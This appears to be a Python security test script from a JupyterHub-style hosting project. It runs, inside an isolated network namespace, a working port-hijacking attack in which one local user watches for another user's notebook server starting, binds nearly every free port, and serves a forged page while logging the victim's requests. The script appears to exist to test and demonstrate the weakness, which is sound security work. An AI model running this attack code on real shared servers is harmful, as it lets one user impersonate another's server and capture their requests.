"""A learner's attack on everybody who opens a server: answer at the port before the server does. Run in a network of its own.

    unshare --net python tests/support/takeover.py

The learner watches for the start of somebody else's server, and listens at every port that they can open before that server does.
What comes of three tries is printed as JSON: in `stolen` of them the page that came was the attacker's, in `listening_socket` the victim's;
`asked` is what the attacker was asked of the victim's server, `listening` where the hub and its servers listened, `taken` which of
these addresses the attacker could take while the hub was down.
"""

from __future__ import annotations

import fcntl
import json
import secrets
import signal
import socket
import struct
import subprocess
import sys
import time
from pathlib import Path

import psutil
import requests

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from babyinmind.hosting.demonstration import PlannedCohort, demonstration
from babyinmind.hosting.demonstration_hub import Demonstration
from support.going_down import end_everything_of
from support.hub import SECONDS, Visitor
from support.lab import until

TRIES = 3
PORTS = (40000, 41999)
"""The network's own range of free ports, small, so that all of them are taken within a moment."""
LEFT = 40
"""Ports that the attacker leaves, since the hub could not ask anybody anything without."""
STOLEN = "STOLEN PAGE"
ATTACK = """
import pathlib, pwd, resource, select, socket, sys, time
victim, (first, last, left) = pwd.getpwnam(sys.argv[1]).pw_uid, map(int, sys.argv[2:5])
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
def started():
    for process in pathlib.Path("/proc").iterdir():
        try:
            if process.name.isdigit() and process.stat().st_uid == victim and b"singleuser" in (process / "cmdline").read_bytes():
                return True
        except OSError:
            pass
print("watching", flush=True)
while not started():
    time.sleep(0.02)
poll, held = select.epoll(), {}
def take(address):
    one = socket.socket()
    try:
        one.bind(address)
        one.listen(16)
    except OSError:
        one.close()
        return False
    held[one.fileno()] = one
    poll.register(one.fileno(), select.EPOLLIN)
    return True
taken = sum(take(("0.0.0.0", port)) for port in range(first + left, last + 1))
for port in (*range(1, 1024), *range(1024, 2000), 8000, 8001, 8081, 8888):
    take(("0.0.0.0", port))
print("taken", taken, flush=True)
body = b"<h1>STOLEN PAGE</h1>"
end = time.monotonic() + 60
while time.monotonic() < end:
    for number, _ in poll.poll(0.2):
        try:
            peer, _ = held[number].accept()
            peer.settimeout(2)
            said = peer.recv(65536)
            peer.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Type: text/html\\r\\nX-JupyterHub-Version: 5.0\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n%s" % (len(body), body))
            peer.close()
            print("asked", said.split(b"\\r\\n")[0].decode("latin-1"), flush=True)
        except OSError:
            pass
"""
BIND = """
import socket, sys
for address in sys.argv[1:]:
    host, _, port = address.rpartition(":")
    one = socket.socket()
    one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        one.bind((host, int(port)))
    except OSError:
        continue
    print(address)
"""


def main() -> int:
    loopback_up()
    Path("/proc/sys/net/ipv4/ip_local_port_range").write_text("{} {}".format(*PORTS))
    mark = f"bim{secrets.token_hex(3)}"
    ann, mal, ada = (f"{mark}-{name}" for name in ("ann", "mal", "ada"))
    planned = PlannedCohort(f"{mark}-one", [ada], {ann: "Ann Example", mal: "Mal Example"}, [])
    with demonstration([planned]) as shown:
        tries = [attacked(shown, ann, mal) for _ in range(TRIES)]
        pages = [page for page, _ in tries]
        Visitor(shown, ann).start_server()
        listening = addresses(shown)
        shown.stop()
        taken = shown.run(mal, sys.executable, "-c", BIND, *listening).stdout.split()
    found = {
        "stolen": sum(STOLEN in page for page in pages),
        "opened": sum(STOLEN not in page and f"/user/{ann}/" in page for page in pages),
        "asked": [line for _, said in tries for line in said if line.startswith("asked") and f"/user/{ann}" in line],
        "listening": listening,
        "taken": taken,
    }
    print(json.dumps(found))
    return 0


def attacked(shown: Demonstration, victim: str, attacker: str) -> tuple[str, list[str]]:
    """Open the victim's server while the attack runs; gives the page that came, and what the attacker said."""
    command = ["runuser", "-u", attacker, "--", sys.executable, "-c", ATTACK, victim, *map(str, (*PORTS, LEFT))]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, text=True, cwd="/")
    assert process.stdout and process.stdout.readline().startswith("watching")
    visitor = Visitor(shown, victim)
    page, end = "", time.monotonic() + SECONDS
    try:
        while time.monotonic() < end:
            try:
                answer = visitor.get(f"/hub/spawn/{victim}")
            except requests.RequestException:
                time.sleep(0.2)
                continue
            page = answer.text
            arrived = answer.status_code == 200 and f"/user/{victim}/" in answer.url
            if STOLEN in page or arrived or answer.status_code >= 500:
                break
            time.sleep(0.2)
    finally:
        end_everything_of(attacker)
        process.wait()
    said = process.stdout.read().splitlines()
    assert any(line.startswith("taken") and int(line.split()[1]) > 1000 for line in said), said
    end_everything_of(victim)
    # Before the next try the hub has to notice.
    until(lambda: Visitor(shown, victim).get(f"/user/{victim}/api").status_code == 424, "the server's end", SECONDS)
    return page, said


def addresses(shown: Demonstration) -> list[str]:
    """Where the hub, its proxy and people's servers listen, as the machine says: HOST:PORT; kernels, which nobody started, apart."""
    assert shown.process
    hub = psutil.Process(shown.process.pid)
    sockets = [one for process in (hub, *hub.children()) for one in process.net_connections("tcp")]
    return sorted({f"{one.laddr.ip}:{one.laddr.port}" for one in sockets if one.status == psutil.CONN_LISTEN})


def loopback_up() -> None:
    """In a new network the loopback is down."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        asked = struct.pack("16sH14s", b"lo", 0, b"")
        flags = struct.unpack("16sH14s", fcntl.ioctl(any_socket, 0x8913, asked))[1]
        fcntl.ioctl(any_socket, 0x8914, struct.pack("16sH14s", b"lo", flags | 1, b""))


if __name__ == "__main__":
    signal.alarm(900)
    sys.exit(main())
